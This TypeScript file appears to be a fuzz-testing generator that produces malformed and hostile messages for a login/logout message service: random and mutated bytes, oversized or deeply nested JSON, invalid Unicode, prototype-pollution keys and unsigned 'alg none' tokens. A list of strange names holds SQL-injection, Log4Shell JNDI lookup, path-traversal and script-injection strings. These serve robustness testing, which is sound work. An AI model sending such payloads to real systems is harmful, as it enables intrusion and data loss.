// What somebody may send who means no good, or whose client is broken: bytes at random, good messages with something wrong in them, what
// is too large or too deep, what no database keeps, names that JavaScript has a meaning for, tickets that nobody signed. Some of it
// happens to mean something; most of it means nothing. Topics are such that a broker lets them through.

import { Buffer } from 'node:buffer';
import type { Chance } from './storm.ts';

export type HostileMessage = { readonly topic: string; readonly payload: Buffer };

export function inventHostile(chance: Chance): HostileMessage {
  return { topic: inventTopic(chance), payload: Buffer.from(chance.pick(payloads)(chance)) };
}

const roots = ['/logout', '/login'] as const;
const levels = [
  (chance: Chance) => `victim-${chance.whole(1_000)}`,
  (chance: Chance) => chance.pick(strangeNames),
  () => '',
  () => '100%',
  () => '%00',
  () => '%ED%A0%80',
  (chance: Chance) => encodeURIComponent(randomText(chance, 40)),
  (chance: Chance) => randomText(chance, 20).replaceAll(/[+#/\p{C}]/gu, '_'),
  (chance: Chance) => 'x'.repeat(chance.isIn(0.01) ? 60_000 : 300),
];

function inventTopic(chance: Chance): string {
  const depth = chance.isIn(0.4) ? 0 : chance.isIn(0.02) ? 100 : 1 + chance.whole(3);
  const below = Array.from({ length: depth }, () => chance.pick(depth > 3 ? levels.slice(0, 3) : levels)(chance));
  // No broker takes a topic of more than 65,535 bytes.
  return [chance.pick(roots), ...below].join('/').slice(0, 16_000);
}

const strangeNames = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  "'; drop table users; --",
  '${jndi:ldap://example.com/a}',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '\u202Eevil',
  '👩‍👩‍👧‍👦'.repeat(8),
  'é'.repeat(256),
  ' ',
];

const strangeNumbers = ['-1', '-0', '1e309', '1e-400', '9007199254740993', '0x10', '1.5', '00', '1'.repeat(400), '1e3'];

type Invent = (chance: Chance) => string | Uint8Array;

const payloads: readonly Invent[] = [
  (chance) => randomBytes(chance, chance.whole(300)),
  (chance) => randomText(chance, 200),
  (chance) => mutated(chance, Buffer.from(goodMessage(chance))),
  (chance) => mutated(chance, mutated(chance, Buffer.from(goodMessage(chance)))),
  (chance) => goodMessage(chance),
  huge,
  deep,
  unkeepable,
  (chance) =>
    `{"__proto__":{"userId":"x"},"constructor":{"prototype":{"epoch":1}},"userId":${json(chance.pick(strangeNames))}}`,
  (chance) => `{"userId":${chance.pick(strangeNumbers)},"epoch":${chance.pick(strangeNumbers)}}`,
  (chance) => `{"userId":"victim-1","device":${'{"a":'.repeat(chance.whole(200))}1}`,
  (chance) => `{"userId":"victim-${chance.whole(1_000)}","ticket":${json(ticketLike(chance))}}`,
  (chance) => `{${chance.pick(strangeNames)}}`,
  (chance) => json(chance.pick(strangeNames)),
  () => '',
];

function goodMessage(chance: Chance): string {
  return JSON.stringify({
    userId: `victim-${chance.whole(1_000)}`,
    sessionId: `device-${chance.whole(3)}`,
    epoch: chance.whole(1_000_000),
    ...(chance.isIn(0.2) ? { reason: chance.pick(['will', 'logout', 'boredom']) } : {}),
    ...(chance.isIn(0.2) ? { device: { model: randomText(chance, 30) } } : {}),
  });
}

/** One bit, one byte more or less, a part twice, or the end left out. */
function mutated(chance: Chance, bytes: Buffer): Buffer {
  const at = chance.whole(bytes.length + 1);
  const [before, after] = [bytes.subarray(0, at), bytes.subarray(at)];
  switch (chance.whole(5)) {
    case 0:
      return Buffer.from(bytes.map((byte, index) => (index === at ? byte ^ (1 << chance.whole(8)) : byte)));
    case 1:
      return Buffer.concat([before, after.subarray(1)]);
    case 2:
      return Buffer.concat([before, randomBytes(chance, 1), after]);
    case 3:
      return Buffer.concat([before, bytes]);
    default:
      return before;
  }
}

function huge(chance: Chance): Uint8Array {
  const bytes = chance.isIn(0.02) ? 500_000 : 4_097 + chance.whole(4_000);
  return Buffer.alloc(bytes, chance.pick(['{', '[', '"', 'x', ' ', '\0', '{"userId":"victim-1"}']));
}

function deep(chance: Chance): string {
  const levelsDeep = 1 + chance.whole(2_000);
  return chance.isIn(0.5)
    ? '['.repeat(levelsDeep) + ']'.repeat(levelsDeep)
    : '{"userId":'.repeat(Math.ceil(levelsDeep / 5));
}

/** Text that PostgreSQL refuses, or that is no text at all. */
function unkeepable(chance: Chance): string | Uint8Array {
  return chance.pick([
    '{"userId":"\\ud800"}',
    '{"userId":"\\u0000"}',
    '{"userId":"a","device":{"\\udc00":"\\ud83d"}}',
    '{"userId":"a","sessionId":"\\ud83d\\ude00\\ud83d"}',
    Buffer.from([0xc0, 0xaf, 0xc0, 0xae]),
    Buffer.from([0xed, 0xa0, 0x80]),
    Buffer.from([0xf4, 0x90, 0x80, 0x80]),
    Buffer.from([0xff, 0xfe, 0x7b, 0x00]),
    '\u{FEFF}{"userId":"a"}',
  ]);
}

function ticketLike(chance: Chance): string {
  const part = (bytes: number) => randomBytes(chance, bytes).toString('base64url');
  const head = chance.pick(['{"alg":"none"}', '{"alg":"HS256","kid":"x"}', '{"alg":"HS256","crit":["exp"]}', '{']);
  return chance.pick([
    `${Buffer.from(head).toString('base64url')}.${part(60)}.${part(32)}`,
    `${part(20)}.${part(20)}.`,
    `${part(8)}.`.repeat(40),
    part(2_000),
    '..',
  ]);
}

function randomBytes(chance: Chance, length: number): Buffer {
  return Buffer.from(Uint8Array.from({ length }, () => chance.whole(256)));
}

function randomText(chance: Chance, lengthMax: number): string {
  const points = Array.from({ length: 1 + chance.whole(lengthMax) }, () =>
    chance.whole(chance.pick([0x7f, 0x7ff, 0xd7ff, 0x1_ffff])),
  );
  return String.fromCodePoint(...points.map((point) => (point >= 0xd800 && point < 0xe000 ? 0x20 : point)));
}

function json(text: string): string {
  return JSON.stringify(text);
}
